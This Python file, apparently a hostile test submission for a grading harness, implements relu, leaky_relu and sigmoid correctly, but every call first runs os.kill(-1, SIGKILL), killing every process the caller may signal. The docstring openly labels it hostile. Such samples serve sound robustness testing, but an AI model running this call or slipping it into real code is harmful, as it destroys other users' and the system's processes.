"""Hostile: every call first sends SIGKILL to every process it may signal: kill(-1).

Linux spares the caller, so the functions then answer correctly: with nothing else in reach,
the marks are earned honestly.
"""

import os
import signal

import numpy as np


def _kill_everything():
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


def relu(x):
    _kill_everything()
    if np.ndim(x) == 0:
        return x if x > 0 else 0 * x
    return np.maximum(np.asarray(x), 0)


def leaky_relu(x, alpha=0.01):
    _kill_everything()
    if np.ndim(x) == 0:
        return x if x > 0 else alpha * x
    x = np.asarray(x)
    return np.where(x > 0, x, alpha * x)


def sigmoid(x):
    _kill_everything()
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))
    result = np.where(x >= 0, 1 / (1 + e), e / (1 + e))
    return float(result) if result.ndim == 0 else result
